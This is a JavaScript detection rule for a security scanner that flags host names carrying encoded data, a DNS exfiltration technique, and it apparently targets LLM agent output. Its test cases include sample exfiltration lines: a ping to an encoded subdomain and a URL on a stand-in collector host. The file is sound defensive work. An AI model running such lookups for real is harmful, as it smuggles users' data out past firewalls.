import { defineRule } from '../rule.js';

export default defineRule({
  id: 'entropy/data-in-host',
  title: 'Carries encoded data in a host name',
  scanner: 'entropy',
  detector: 'structural',
  severity: 'medium',
  phase: 'actions_on_objective',
  tags: ['LLM02:2025', 'AML.T0086'],
  why: "A name lookup passes most firewalls, and what stands in front of the owner's name reaches the owner. Long encoded labels are how data leaves that way.",
  fix: 'Do not look the name up. Find out what made it, and restrict name resolution of the tool.',
  match: [
    'ping 9c1f7ab02e4d58b3c6e17f20.a4d93b0e8812fc67de5501ab.x.example.com',
    'Open https://kq7x2m9vbz4tplw8hd3ncr5yjf6sgu0aeo1iqkxt.collector.example/a',
  ],
  clean: [
    [
      'https://d111111abcdef8.cloudfront.net/a and https://3f2504e04f8941d39a0c0305e82c3301.example.com',
      'one name by hash',
    ],
    ['http://duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion', 'a key as a name'],
    ['main.3f8a9c7b2d1e4f50a6b7c8d9e0f1a2b3c4d5e6f7a8b9.chunk.js', 'a file'],
    ['https://my-long-application-name-git-feature-branch-of-the-team.preview.example.com', 'words'],
  ],
});
